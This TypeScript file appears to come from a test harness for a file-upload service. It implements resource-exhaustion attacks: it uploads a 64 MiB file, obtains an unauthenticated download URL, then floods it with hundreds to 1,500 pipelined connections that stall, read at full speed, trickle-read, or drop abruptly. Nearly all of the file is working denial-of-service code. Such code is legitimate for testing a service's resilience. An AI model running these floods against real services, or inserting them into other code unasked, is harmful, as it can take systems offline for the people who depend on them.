import { truncate, writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { join } from 'node:path';
import type { Socket } from 'node:net';
import { encodeMessage, type Message } from '../world/message';
import { ALICE, ATTACKER } from '../world/world';
import type { Attack } from './attack';

export const FLOOD_FILE = 'flooded-file';
// The file is larger than what sockets buffer.
const SIZE = 64 * 2 ** 20;
const TICK = 50;
const BYTES_A_SECOND = 12_000;

/** The bytes of a request for a file in the service's folder, which needs no credential. */
async function prepareDownload(attack: Attack): Promise<string> {
  const path = join(attack.files, FLOOD_FILE);
  await writeFile(path, '');
  await truncate(path, SIZE);
  const id = ATTACKER.base + 60;
  const game_id = ATTACKER.base + 1;
  await attack.import([
    { type: 'upload', id, game_id, filename: 'flood.zip', file: { key: FLOOD_FILE, size: SIZE } },
  ]);
  const redirect: Message = {
    method: 'GET',
    path: `/uploads/${id}/download`,
    headers: [['Authorization', `Bearer ${ATTACKER.key(ALICE)}`]],
  };
  const { pathname } = new URL(await fetchLocation(attack.base, redirect));
  return encodeMessage({ method: 'GET', path: pathname, headers: [] }).toString();
}

const fetchLocation = (base: string, { path, headers }: Message): Promise<string> =>
  new Promise((resolve, reject) => {
    const outgoing = request(base + path, { headers: Object.fromEntries(headers) }, (response) => {
      response.resume();
      resolve(response.headers.location!);
    });
    outgoing.on('error', reject);
    outgoing.end();
  });

const connections = (attack: Attack, count: number, bytes: string): Socket[] =>
  Array.from({ length: count }, () => attack.open(bytes));

/** 400 connections that read nothing. */
export async function unreadDownloads(attack: Attack): Promise<void> {
  const nine = (await prepareDownload(attack)).repeat(9);
  attack.begin();
  for (const socket of connections(attack, 400, nine)) socket.pause();
  await attack.every(TICK, () => {
    for (const socket of connections(attack, 5, nine)) socket.pause();
  });
}

/** 300 connections that read as fast as they can. */
export async function fastDownloads(attack: Attack): Promise<void> {
  const nine = (await prepareDownload(attack)).repeat(9);
  const reading = new Set<Socket>();
  attack.begin();
  await attack.every(TICK, () => {
    for (const socket of connections(attack, Math.min(300 - reading.size, 100), nine)) {
      reading.add(socket.resume());
      socket.on('close', () => reading.delete(socket));
    }
  });
}

/** 1,500 connections that read a little more than the minimum. */
export async function slowDownloads(attack: Attack): Promise<void> {
  const ten = (await prepareDownload(attack)).repeat(10);
  const sockets: Socket[] = [];
  let tick = 0;
  attack.begin();
  await attack.every(TICK, () => {
    for (const socket of connections(attack, Math.min(1500 - sockets.length, 50), ten))
      sockets.push(socket.pause());
    // Each socket is read once a second.
    for (let i = tick++ % 20; i < sockets.length; i += 20) sockets[i]!.read(BYTES_A_SECOND);
  });
}

/** Pipelined downloads on connections that are lost in various ways. */
export async function lostDownloads(attack: Attack): Promise<void> {
  const nine = (await prepareDownload(attack)).repeat(9);
  const lose = [
    (socket: Socket) => socket.destroy(),
    (socket: Socket) => socket.resetAndDestroy(),
    (socket: Socket) => socket.end(),
    (socket: Socket) => socket.end('X\0'),
  ];
  attack.begin();
  await attack.every(TICK, () => {
    for (const socket of connections(attack, 10, nine))
      setTimeout(() => attack.pick(lose)(socket), attack.random(100));
  });
}
